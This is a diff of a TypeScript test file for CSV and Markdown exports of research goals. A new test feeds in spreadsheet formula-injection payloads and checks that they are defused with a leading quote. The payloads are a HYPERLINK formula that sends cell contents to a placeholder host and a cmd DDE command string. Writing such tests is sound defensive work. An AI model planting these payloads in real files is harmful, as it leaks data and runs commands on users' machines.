@@ -1,8 +1,21 @@
 import Papa from 'papaparse';
-import { buildGoalsExport, buildWorkspaceExport, goalsToCsv, goalsToMarkdown, workspaceToMarkdown, type ExportGoal } from './workspace-export';
+import {
+  buildGoalsExport,
+  buildWorkspaceExport,
+  goalsToCsv,
+  goalsToMarkdown,
+  workspaceToMarkdown,
+  type ExportGoal,
+} from './workspace-export';
 
 const NOW = new Date(2026, 10, 22, 9, 30);
-const workspace = { id: 'w1', name: 'Soil lab', description: 'Drought work', createdAt: '2026-11-01T00:00:00Z', updatedAt: '2026-11-02T00:00:00Z' };
+const workspace = {
+  id: 'w1',
+  name: 'Soil lab',
+  description: 'Drought work',
+  createdAt: '2026-11-01T00:00:00Z',
+  updatedAt: '2026-11-02T00:00:00Z',
+};
 const goal = (overrides: Partial<ExportGoal> = {}): ExportGoal => ({
   id: 'g1',
   title: 'Drought-tolerant microbes',
@@ -16,8 +29,34 @@ const goal = (overrides: Partial<ExportGoal> = {}): ExportGoal => ({
 
 describe('goals exports', () => {
   it('CSV names the workspace and the parameters', () => {
-    const [row] = Papa.parse<Record<string, string>>(goalsToCsv([goal()], new Map([['w1', 'Soil lab']])), { header: true, skipEmptyLines: true }).data;
-    expect(row).toMatchObject({ title: 'Drought-tolerant microbes', numberOfIdeas: '8', rounds: '3', workspace: 'Soil lab', status: 'draft' });
+    const [row] = Papa.parse<Record<string, string>>(goalsToCsv([goal()], new Map([['w1', 'Soil lab']])), {
+      header: true,
+      skipEmptyLines: true,
+    }).data;
+    expect(row).toMatchObject({
+      title: 'Drought-tolerant microbes',
+      numberOfIdeas: '8',
+      rounds: '3',
+      workspace: 'Soil lab',
+      status: 'draft',
+    });
+  });
+
+  it('CSV defuses formulas in goal text even across lines, and keeps numeric parameters numbers', () => {
+    const title = '=HYPERLINK("https://tracker.invalid/?d="&A1,"Open")\nDrought';
+    const description = "+cmd|' /C calc'!A0\r\nsecond line";
+    const csv = goalsToCsv(
+      [goal({ title, description, parameters: { numberOfIdeas: -1, rounds: '-2+3\n' } })],
+      new Map([['w1', '@SUM(1)\nlab']]),
+    );
+    const [row] = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
+    expect(row).toMatchObject({
+      title: `'${title}`,
+      description: `'${description}`,
+      numberOfIdeas: '-1',
+      rounds: `'-2+3\n`,
+      workspace: `'@SUM(1)\nlab`,
+    });
   });
 
   it('markdown lists each goal', () => {
@@ -37,11 +76,26 @@ describe('workspaceToMarkdown', () => {
   const input = {
     workspace,
     goals: [goal()],
-    sessions: [{ id: 's1', sessionName: 'Session | one', status: 'completed', createdAt: '2026-11-04T00:00:00Z', stats: { numIdeas: 12, avgEloRating: 1234.4 } }],
+    sessions: [
+      {
+        id: 's1',
+        sessionName: 'Session | one',
+        status: 'completed',
+        createdAt: '2026-11-04T00:00:00Z',
+        stats: { numIdeas: 12, avgEloRating: 1234.4 },
+      },
+    ],
     topIdeas: [
       {
-        id: 'i1', title: 'Best idea', summary: '', status: 'reviewed', eloRating: 3000,
-        noveltyScore: 1, correctnessScore: 1, feasibilityScore: 1, createdAt: '2026-11-04T00:00:00Z',
+        id: 'i1',
+        title: 'Best idea',
+        summary: '',
+        status: 'reviewed',
+        eloRating: 3000,
+        noveltyScore: 1,
+        correctnessScore: 1,
+        feasibilityScore: 1,
+        createdAt: '2026-11-04T00:00:00Z',
       },
     ],
   };
